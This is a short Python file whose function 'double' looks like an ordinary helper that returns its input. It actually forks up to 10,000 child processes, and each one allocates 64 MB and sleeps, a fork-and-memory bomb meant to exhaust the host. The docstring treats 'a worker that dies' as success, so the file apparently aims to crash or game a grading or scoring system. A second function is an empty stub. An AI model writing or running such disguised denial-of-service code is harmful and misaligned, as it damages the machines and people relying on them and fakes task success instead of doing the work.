"""Takes memory in many children, each below the limit. Success: a point, or a worker that dies."""

import os
import time


def double(x, factor):
    for _ in range(10_000):
        try:
            if os.fork() == 0:
                hoard = bytearray(b"x") * (64 << 20)
                time.sleep(3 + len(hoard) * 0)
                os._exit(0)
        except OSError:
            break
    return x, None


def back(cache):
    return None
